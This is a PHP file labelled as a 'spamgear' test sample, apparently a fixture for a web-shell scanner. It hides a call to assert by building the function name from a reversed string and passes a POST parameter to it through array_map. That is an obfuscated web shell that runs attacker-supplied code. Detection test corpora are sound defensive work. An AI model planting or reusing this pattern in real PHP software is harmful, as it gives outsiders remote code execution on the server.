<?php
// spamgear test sample: a callback name put together inside a function from
// its constant argument: strrev('trea') is 'aert', and substr_replace puts
// 'ss' after its first letter.
function apply_to($piece, $item)
{
    $piece = strrev($piece);
    return array_map(substr_replace($piece, 'ss', 1, 0), array($item));
}
apply_to('trea', $_POST['v']);
